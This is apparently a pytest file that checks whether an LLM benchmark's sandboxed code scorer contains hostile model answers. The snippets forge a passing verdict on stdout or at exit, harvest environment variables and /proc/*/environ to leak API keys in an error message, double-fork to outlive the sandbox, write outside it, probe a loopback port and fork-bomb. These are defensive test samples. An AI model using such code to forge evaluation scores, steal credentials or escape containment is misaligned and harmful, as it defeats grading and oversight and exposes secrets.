"""Hostile model output through the real `llmbench eval`: a loopback server answers with attacks, the real code
scorer runs them, and none may forge a score, steal a key, outlive its sandbox, write outside it, reach the
network or exhaust the machine. Each snippet is one that worked against the previous, unsandboxed scorer.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import pytest
from helpers import interruptible

from llmbench.scorers.sandbox import bwrap_available
from llmbench.store import Store
from llmbench.testing import FakeOpenAIServer

pytestmark = pytest.mark.skipif(bwrap_available() is not None, reason=f"no sandbox here: {bwrap_available()}")

KEY = "sk-proj-HOSTILEcanaryKEY0123456789abcdef"
TESTS = "def test_add():\n    assert add(2, 3) == 5\n\ndef test_neg():\n    assert add(-1, 1) == 0\n"
TAG = uuid.uuid4().hex[:8]
NUM = f"{uuid.uuid4().int % 1000:03d}"  # digits: `sleep 47.NNN1` must be a valid duration, findable by pgrep


def snippets(tmp: Path, listener_port: int) -> dict[str, str]:
    """name -> the model's answer (a python block)."""
    return {
        "honest": "def add(a, b):\n    return a + b\n",
        # the old harness took any stdout line starting with its nonce (from argv) as the verdict
        "forged_verdict": (
            "import sys, os\n"
            "print(' '.join(sys.argv))\n"
            'print(\'{"passed": 2, "total": 2, "error": null, "failures": []}\')\n'
            "os._exit(0)\n"
        ),
        # a wrong function that prints a passing verdict at exit
        "atexit_verdict": (
            "import atexit\n"
            "def add(a, b):\n    return a * b\n"
            'atexit.register(lambda: print(\'{"passed": 2, "total": 2, "error": null, "failures": []}\'))\n'
        ),
        # read every environment it can see and smuggle it out, reversed, in an error message
        "key_theft": (
            "import glob, os\n"
            "loot = repr(dict(os.environ))\n"
            "for p in glob.glob('/proc/*/environ'):\n"
            "    try:\n        loot += open(p, 'rb').read().decode(errors='replace')\n"
            "    except Exception:\n        pass\n"
            "def add(a, b):\n    raise ValueError('LOOT ' + loot[::-1])\n"
        ),
        "double_fork": (
            "import os\n"
            "if os.fork() == 0:\n    os.setsid()\n"
            f"    if os.fork() == 0:\n        os.execv('/bin/sleep', ['sleep', '47.{NUM}1'])\n"
            "    os._exit(0)\n"
            "def add(a, b):\n    return a + b\n"
        ),
        "write_outside": (
            f"for p in [{str(tmp / 'escaped.txt')!r}, '/tmp/llmbench-escape-{TAG}', '/usr/llmbench-escape-{TAG}']:\n"
            "    try:\n        open(p, 'w').write('x')\n    except Exception:\n        pass\n"
            "def add(a, b):\n    return a + b\n"
        ),
        "loopback_http": (
            "import socket\n"
            "try:\n"
            f"    s = socket.create_connection(('127.0.0.1', {listener_port}), timeout=2)\n"
            "    s.sendall(b'GET /steal HTTP/1.0\\r\\n\\r\\n')\n"
            "except Exception:\n    pass\n"
            "def add(a, b):\n    return a + b\n"
        ),
        "fork_bomb": (
            "import os, time\n"
            "n = 0\n"
            "try:\n"
            "    while n < 100000:\n"
            "        if os.fork() == 0:\n            time.sleep(30)\n            os._exit(0)\n"
            "        n += 1\n"
            "except OSError:\n    pass\n"
            "def add(a, b):\n    return a + b\n"
        ),
    }


class Listener:
    """A loopback TCP port that counts who connects."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self._stop = False
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
                self.connections += 1
                conn.close()
            except OSError:
                continue

    def close(self) -> None:
        self._stop = True
        self._thread.join()
        self.sock.close()


def _project(tmp: Path, url: str, answers: dict[str, str]) -> Path:
    (tmp / "llmbench.toml").write_text(
        f'[endpoints.fake]\nbase_url = "{url}/v1"\nfree = true\napi_key_env = "OPENAI_API_KEY"\n'
    )
    with (tmp / "code.jsonl").open("w") as fh:
        for name in answers:
            fh.write(
                json.dumps(
                    {"id": name, "input": f"task {name}", "reference": TESTS, "scorer": "python_tests"}
                )
                + "\n"
            )
    exp = {"name": "hostile", "datasets": ["code.jsonl"], "models": ["fake:coder"], "concurrency": 4,
           "params": {"max_tokens": 512}, "max_attempts": 1}  # fmt: skip
    (tmp / "exp.yaml").write_text(json.dumps(exp))
    return tmp / "exp.yaml"


def _pgrep(pattern: str) -> list[str]:
    done = subprocess.run(["pgrep", "-af", pattern], capture_output=True, text=True, check=False)
    return [line for line in done.stdout.splitlines() if "pgrep" not in line]


@pytest.mark.slow
def test_hostile_answers_do_no_harm_through_llmbench_eval(tmp_path: Path) -> None:
    listener = Listener()
    answers = snippets(tmp_path, listener.port)
    replies = {f"task {name}": f"```python\n{code}```" for name, code in answers.items()}
    try:
        with FakeOpenAIServer(latency_s=0.0, replies=replies) as server:
            exp = _project(tmp_path, server.url, answers)
            env = {**os.environ, "OPENAI_API_KEY": KEY, "NO_COLOR": "1"}
            started = time.monotonic()
            done = subprocess.run(
                [sys.executable, "-m", "llmbench", "eval", str(exp), "--store", "runs.duckdb", "--no-track",
                 "--no-progress"],
                cwd=tmp_path, env=env, capture_output=True, text=True, timeout=300,
            )  # fmt: skip
            elapsed = time.monotonic() - started
    finally:
        listener.close()
    assert done.returncode == 0, done.stdout + done.stderr
    with Store.open(tmp_path / "runs.duckdb", read_only=True) as st:
        scores = st.scores_frame("hostile").set_index("item_id")
    value = scores["value"].to_dict()
    # only the honest answer passes: printed or atexit verdicts are not verdicts
    assert value["honest"] == 1.0
    assert value["forged_verdict"] == 0.0 and value["atexit_verdict"] == 0.0
    assert value["key_theft"] == 0.0 and "LOOT" in scores.loc["key_theft", "explanation"]
    # harmless attacks still solve the task: they ran, and were contained
    for name in ("double_fork", "write_outside", "loopback_http", "fork_bomb"):
        assert value[name] == 1.0, (name, scores.loc[name, "explanation"])
    # the key is nowhere: not in what the code could read, the store's bytes, or the output
    secrets = (KEY, KEY[::-1])
    blobs = [p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()]
    for secret in secrets:
        assert secret not in done.stdout + done.stderr
        assert not any(secret.encode() in b for b in blobs), secret
    # nothing written outside the sandbox, no connection made, no process left behind
    assert not (tmp_path / "escaped.txt").exists()
    assert (
        not Path(f"/tmp/llmbench-escape-{TAG}").exists() and not Path(f"/usr/llmbench-escape-{TAG}").exists()
    )
    assert listener.connections == 0
    assert not _pgrep(f"sleep 47.{NUM}1")
    assert not _pgrep("_solution_server.py")
    assert elapsed < 120  # the fork bomb was bounded, not waited out


@pytest.mark.slow
def test_cancelling_the_eval_kills_the_sandbox(tmp_path: Path) -> None:
    marker = f"sleep 53.{NUM}7"
    code = f"import os\nos.system({marker!r})\ndef add(a, b):\n    return a + b\n"
    with FakeOpenAIServer(latency_s=0.0, replies={"task slow": f"```python\n{code}```"}) as server:
        exp = _project(tmp_path, server.url, {"slow": code})
        env = {**os.environ, "OPENAI_API_KEY": KEY, "NO_COLOR": "1"}
        proc = subprocess.Popen(
            [sys.executable, "-m", "llmbench", "eval", str(exp), "--store", "runs.duckdb", "--no-track",
             "--no-progress"],
            cwd=tmp_path, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
            preexec_fn=interruptible,
        )  # fmt: skip
        deadline = time.monotonic() + 60
        while not _pgrep(marker) and time.monotonic() < deadline:
            time.sleep(0.2)
        assert _pgrep(marker), "the sandboxed code never started"
        proc.send_signal(signal.SIGINT)
        out, err = proc.communicate(timeout=60)
    assert proc.returncode == 130, out + err
    time.sleep(0.5)
    assert not _pgrep(marker), "the sandbox outlived the cancelled run"
